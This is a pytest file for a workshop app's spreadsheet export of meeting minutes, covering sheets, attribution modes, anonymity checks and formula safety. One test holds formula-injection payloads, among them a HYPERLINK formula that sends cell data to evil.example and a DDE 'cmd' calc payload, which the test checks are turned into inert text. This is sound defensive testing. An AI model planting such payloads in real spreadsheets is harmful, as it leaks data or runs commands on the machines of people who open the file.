"""The spreadsheet export (XLSX): contributions, consensus points, next steps and attendance,
each on its own sheet, attributed per mode, text that never runs as a formula, and nothing
naming a participant anywhere in an anonymous workbook. Every test reads the written file back."""

from __future__ import annotations

import dataclasses
import datetime as dt
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given

from tests.minutes.readback import docx_parts, xlsx_sheets
from tests.minutes.test_safety import FAST, MODES, everywhere, texts
from workshop_app.assets import asset
from workshop_app.domain.attribution import Attribution
from workshop_app.domain.limits import MAX_TEXT
from workshop_app.domain.model import WorkshopRecord
from workshop_app.interchange import load_path
from workshop_app.minutes import Format, MinutesOptions, build_minutes, export_minutes, render
from workshop_app.minutes.export import IdentitiesFound
from workshop_app.minutes.text import clean, neutralise_cell
from workshop_app.store import Document

SHEETS = ["Contributions", "Consensus points", "Next steps", "Attendance"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FIRST_WORDS = "Partnerships have jumped to the top of the political agenda since 2015"


def quiet(record: WorkshopRecord) -> WorkshopRecord:
    """The demo without its items' own texts: item 1's summary names an organisation
    ("MIEUX Programme"), which the anonymity check rightly refuses."""
    agenda = tuple(
        dataclasses.replace(item, summary=None, description=None) for item in record.agenda
    )
    return dataclasses.replace(record, agenda=agenda)


def write(record: WorkshopRecord, folder: Path, name: str = "w.workshop") -> Path:
    path = folder / name
    Document.create_from_record(path, record).close()
    return path


def export(path: Path, mode: Attribution, out: Path) -> dict[str, list[tuple[object, ...]]]:
    """Export the workshop FILE as XLSX and read every sheet back from the written file."""
    export_minutes(path, MinutesOptions(attribution=mode), Format.XLSX, out)
    return xlsx_sheets(out.read_bytes())


@pytest.fixture(scope="module")
def workshop(tmp_path_factory: pytest.TempPathFactory, demo: WorkshopRecord) -> Path:
    return write(quiet(demo), tmp_path_factory.mktemp("xlsx"))


def column(rows: list[tuple[object, ...]], heading: str) -> list[object]:
    index = rows[0].index(heading)
    return [row[index] for row in rows[1:]]


def row_with(rows: list[tuple[object, ...]], text: str) -> dict[object, object]:
    """The row holding a cell that starts with ``text``, by heading."""
    found = [row for row in rows[1:] if any(str(v or "").startswith(text) for v in row)]
    assert len(found) == 1, (text, found)
    return dict(zip(rows[0], found[0], strict=True))


def test_four_sheets_each_with_a_bold_header_that_stays_in_view(
    workshop: Path, tmp_path: Path
) -> None:
    out = tmp_path / "minutes.xlsx"
    export_minutes(workshop, MinutesOptions(), Format.XLSX, out)
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == SHEETS
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert all(cell.font.b for cell in sheet[1]), sheet.title
        last = openpyxl.utils.get_column_letter(sheet.max_column)
        assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}", sheet.title
    contributions = book["Contributions"]
    headings = [cell.value for cell in contributions[1]]
    text_column = openpyxl.utils.get_column_letter(headings.index("Contribution") + 1)
    assert contributions.column_dimensions[text_column].width >= 60
    assert contributions.column_dimensions["A"].width >= 16  # a date and time fits
    first = contributions[2]
    assert first[0].is_date and first[0].value == dt.datetime(2017, 9, 21, 9, 40)
    assert first[0].number_format == "yyyy-mm-dd hh:mm"
    said = first[headings.index("Contribution")]
    assert said.value.startswith(FIRST_WORDS)
    assert said.alignment.wrap_text and said.alignment.vertical == "top"
    due = book["Next steps"]["C2"]
    assert due.is_date and due.value == dt.datetime(2018, 12, 31)


@pytest.mark.parametrize(
    ("mode", "speaker", "owner"),
    [
        (
            Attribution.NAMED,
            "Ms. Ingrid Solberg (European Commission, DG International Cooperation and "
            "Development)",
            "Ms. Léa Marchand (MIEUX Programme)",
        ),
        (
            Attribution.GROUP,
            "a participant from European institutions",
            "a participant from EU development agencies",
        ),
        # Anonymous: nobody credited; the owner never blank (issue 18): here the convening
        # programme, which the demo lists as public (tests/minutes/test_model.py has the roles).
        (Attribution.ANONYMOUS, None, "MIEUX Programme"),
    ],
)
def test_each_sheet_per_mode(
    workshop: Path,
    demo: WorkshopRecord,
    tmp_path: Path,
    mode: Attribution,
    speaker: str | None,
    owner: str | None,
) -> None:
    sheets = export(workshop, mode, tmp_path / f"{mode.value}.xlsx")
    assert list(sheets) == SHEETS
    # Contributions: every one, in recorded order, attributed as the mode says.
    said = sheets["Contributions"]
    assert len(said) == len(demo.contributions) + 1
    assert set(column(said, "Contribution")) == {clean(c.text) for c in demo.contributions}
    times = column(said, "Time")
    assert times == sorted(times)  # type: ignore[type-var]
    first = row_with(said, FIRST_WORDS)
    assert first["Time"] == dt.datetime(2017, 9, 21, 9, 40)
    assert first["Agenda item"] == "Opening and welcome"
    assert first["Kind"] == "statement"
    if speaker is None:
        assert "Attributed to" not in said[0]  # nobody is: no column of empty cells
    else:
        assert first["Attributed to"] == speaker
    # Consensus points: all five, agreed or not, with status and reservations.
    points = sheets["Consensus points"]
    assert len(points) == len(demo.consensus) + 1
    assert sorted(column(points, "Status")) == [  # type: ignore[type-var]
        "Agreed",
        "Agreed",
        "Agreed",
        "Agreed with reservations",
        "No consensus",
    ]
    reserved = row_with(points, "Capacity development within a partnership is demand-driven")
    assert reserved["Item"] == 2
    assert reserved["Guiding question"] == (
        "What role does capacity development play within a partnership?"
    )
    assert str(reserved["Reservations"]).startswith("Some partner-country delegates asked")
    # Next steps: owner per mode, due as a date, status.
    steps = sheets["Next steps"]
    assert len(steps) == len(demo.next_steps) + 1
    circulate = row_with(steps, "Circulate the minutes")
    assert circulate["Owner"] == owner
    assert circulate["Due"] == dt.datetime(2017, 10, 6)
    assert circulate["Status"] == "Done"
    # Attendance: the people in named mode; how many from each group otherwise.
    attendance = sheets["Attendance"]
    if mode is Attribution.NAMED:
        assert attendance[0] == ("Name", "Organisation", "Stakeholder group", "Role")
        assert ("Mr. Tomas Reinholt", "MIEUX Programme", "EU development agencies") in [
            row[:3] for row in attendance
        ]
        assert len(attendance) == 1 + sum(p.present for p in demo.participants)
    else:
        assert attendance == [
            ("Stakeholder group", "Present"),
            ("EU development agencies", 4),
            ("European institutions", 3),
            ("Partner countries", 3),
            ("Civil society", 4),
            ("Total", 14),
        ]
    if mode is not Attribution.NAMED:
        everything = " ".join(str(v) for rows in sheets.values() for row in rows for v in row)
        for person in demo.participants:
            assert person.name not in everything


def test_organisation_mode_lists_organisations_not_people(workshop: Path, tmp_path: Path) -> None:
    sheets = export(workshop, Attribution.ORGANISATION, tmp_path / "org.xlsx")
    attendance = sheets["Attendance"]
    assert attendance[0] == ("Organisation", "Stakeholder group")
    assert column(attendance, "Organisation").count("MIEUX Programme") == 1
    first = row_with(sheets["Contributions"], FIRST_WORDS)
    assert (
        first["Attributed to"]
        == "European Commission, DG International Cooperation and Development"
    )


INJECTIONS = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2", "@SUM(A1:A9)")


def test_formula_like_text_stays_text(demo: WorkshopRecord, tmp_path: Path) -> None:
    record = quiet(demo)
    contributions = tuple(
        dataclasses.replace(c, text=INJECTIONS[n % len(INJECTIONS)] if n < 8 else "#N/A")
        for n, c in enumerate(record.contributions)
    )
    agenda = (dataclasses.replace(record.agenda[0], title="=1+1"), *record.agenda[1:])
    steps = (dataclasses.replace(record.next_steps[0], text="@SUM(A1)", owner="-2"),)
    points = (dataclasses.replace(record.consensus[0], reservations="+cmd|' /C calc'!A0"),)
    record = dataclasses.replace(
        record,
        contributions=contributions,
        agenda=agenda,
        next_steps=(*steps, *record.next_steps[1:]),
        consensus=(*points, *record.consensus[1:]),
    )
    out = tmp_path / "injected.xlsx"
    export_minutes(write(record, tmp_path), MinutesOptions(), Format.XLSX, out)
    book = openpyxl.load_workbook(out)
    texts_seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    assert not cell.value.startswith(FORMULA_START), cell.value
                    texts_seen.append(cell.value)
    for text in (*INJECTIONS, "=1+1", "@SUM(A1)", "-2", "+cmd|' /C calc'!A0"):
        assert neutralise_cell(text) in texts_seen, text  # as the CSV writes it
    assert "#N/A" in texts_seen  # words, not an error value
    # No part of the file holds a formula element, whatever a reader makes of the cells.
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name


@FAST
@given(text=texts, mode=MODES)
def test_any_text_makes_a_workbook_of_text_cells(
    demo: WorkshopRecord, text: str, mode: Attribution
) -> None:
    minutes = build_minutes(everywhere(demo, text), MinutesOptions(attribution=mode))
    sheets = xlsx_sheets(render(minutes, "xlsx"))
    assert len(sheets["Contributions"]) == len(demo.contributions) + 1
    for rows in sheets.values():
        for row in rows[1:]:
            for value in row:
                assert not (isinstance(value, str) and value.startswith(FORMULA_START))


def test_properties_say_the_program_and_the_title_and_no_one_else(
    workshop: Path, demo: WorkshopRecord, tmp_path: Path
) -> None:
    out = tmp_path / "anonymous.xlsx"
    export_minutes(workshop, MinutesOptions(attribution=Attribution.ANONYMOUS), "xlsx", out)
    parts = docx_parts(out.read_bytes())
    core, app = parts["docProps/core.xml"].decode(), parts["docProps/app.xml"].decode()
    assert "<dc:creator" in core and ">Workshop App</dc:creator>" in core
    assert ">European Conversation</dc:title>" in core
    assert "lastModifiedBy" not in core
    assert "<Application>Workshop App</Application>" in app
    assert "Microsoft" not in app and "openpyxl" not in app.casefold()
    for name, part in parts.items():  # every part of the zip, each sheet included
        text = part.decode("utf-8")
        for person in demo.participants:
            assert person.name not in text, (name, person.name)
            assert person.email is None or person.email not in text, name


def test_an_anonymous_workbook_that_would_name_someone_is_refused(
    demo: WorkshopRecord, tmp_path: Path
) -> None:
    record = quiet(demo)
    named = "As Natalia Rusu stressed, trust comes first."
    agenda = (*record.agenda[:1], dataclasses.replace(record.agenda[1], summary=named))
    path = write(dataclasses.replace(record, agenda=(*agenda, *record.agenda[2:])), tmp_path)
    out = tmp_path / "anonymous.xlsx"
    anonymous = MinutesOptions(attribution=Attribution.ANONYMOUS)
    with pytest.raises(IdentitiesFound) as found:
        export_minutes(path, anonymous, Format.XLSX, out)
    assert "Natalia Rusu" in found.value.message
    assert not out.exists()
    result = cli("export", str(path), "-f", "xlsx", "-a", "anonymous", "-o", str(out))
    assert result.returncode == 1
    assert "would name participants" in result.stderr and "Natalia Rusu" in result.stderr
    assert not out.exists()


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "workshop_app", *args], capture_output=True, text=True, timeout=120
    )


def test_the_command_line_writes_a_workbook_beside_the_workshop(demo_path: Path) -> None:
    result = cli("export", str(demo_path), "--format", "xlsx", "-a", "group")
    assert result.returncode == 0, result.stderr
    out = demo_path.with_name("demo-minutes-group.xlsx")
    sheets = xlsx_sheets(out.read_bytes())
    assert list(sheets) == SHEETS
    first = row_with(sheets["Contributions"], FIRST_WORDS)
    assert first["Attributed to"] == "a participant from European institutions"


def test_the_command_line_refuses_a_workbook_on_standard_output(demo_path: Path) -> None:
    result = cli("export", str(demo_path), "--format", "xlsx", "-o", "-")
    assert result.returncode == 2
    assert "xlsx cannot be written to standard output; give -o FILE" in result.stderr
    assert result.stdout == ""
    assert sorted(p.name for p in demo_path.parent.iterdir()) == ["demo.workshop"]


def test_the_three_day_workshop_in_a_workbook(tmp_path: Path) -> None:
    """Shaped like the real thing: three days, two rounds of breakout groups, report-backs."""
    record = load_path(asset("demo", "three-day-technical-workshop.json"))
    path = write(record, tmp_path, "dakar.workshop")
    sheets = export(path, Attribution.GROUP, tmp_path / "dakar.xlsx")
    said = sheets["Contributions"]
    assert len(said) == len(record.contributions) + 1
    days = {moment.date() for moment in column(said, "Time") if isinstance(moment, dt.datetime)}
    assert days == {dt.date(2009, 3, 10), dt.date(2009, 3, 11), dt.date(2009, 3, 12)}
    groups = set(column(said, "Breakout group"))
    assert {"Group A: Sahel", "Group B: Coastal West Africa", "Group D: Statistics offices"} <= (
        groups
    )
    points = sheets["Consensus points"]
    assert len(points) == len(record.consensus) + 1
    made_in = set(column(points, "Breakout group")) | set(column(points, "Taken up from"))
    assert "Group A: Sahel" in made_in
    assert len(sheets["Next steps"]) == len(record.next_steps) + 1
    present = sum(p.present for p in record.participants)
    assert sheets["Attendance"][-1] == ("Total", present)


def test_the_check_reads_the_workbooks_properties_too(
    workshop: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The properties are checked as written, as a Word file's are: were the workbook ever to
    say more about who made it than the minutes' own text does, the check would see it."""
    from workshop_app.minutes import xlsx

    monkeypatch.setattr(xlsx, "APPLICATION", "Natalia Rusu")
    out = tmp_path / "anonymous.xlsx"
    with pytest.raises(IdentitiesFound) as found:
        export_minutes(workshop, MinutesOptions(attribution=Attribution.ANONYMOUS), "xlsx", out)
    assert "the workbook's document properties (docProps/core.xml)" in found.value.message
    assert not out.exists()


def test_a_text_longer_than_a_cell_goes_on_in_the_rows_below(
    demo: WorkshopRecord, tmp_path: Path
) -> None:
    """A contribution may be 100,000 characters; a cell holds 32,767: nothing is cut off."""
    record = quiet(demo)
    long_text = " ".join(f"word{n}" for n in range(10_000))
    assert 65_534 < len(long_text) <= MAX_TEXT  # three cells' worth, and a text the store takes
    first = dataclasses.replace(record.contributions[0], text=long_text)
    path = write(
        dataclasses.replace(record, contributions=(first, *record.contributions[1:])), tmp_path
    )
    sheets = export(path, Attribution.NAMED, tmp_path / "long.xlsx")
    said = sheets["Contributions"]
    assert len(said) == len(record.contributions) + 1 + 2  # three rows hold the long one
    rows = [dict(zip(said[0], row, strict=True)) for row in said[1:4]]
    parts = [str(row["Contribution"]) for row in rows]
    assert all(len(part) <= 32_767 for part in parts)
    assert "".join(part.removeprefix("…").removesuffix("…") for part in parts) == long_text
    assert parts[0].endswith("…") and parts[1].startswith("…")
    # Each part's row says whose words and when, so that it sorts and filters with the rest.
    chair = "Ms. Ingrid Solberg (European Commission, DG International Cooperation and Development)"
    assert {(row["Time"], row["Attributed to"]) for row in rows} == {
        (dt.datetime(2017, 9, 21, 9, 40), chair)
    }
    assert not str(said[4][said[0].index("Contribution")]).startswith("…")  # the next one
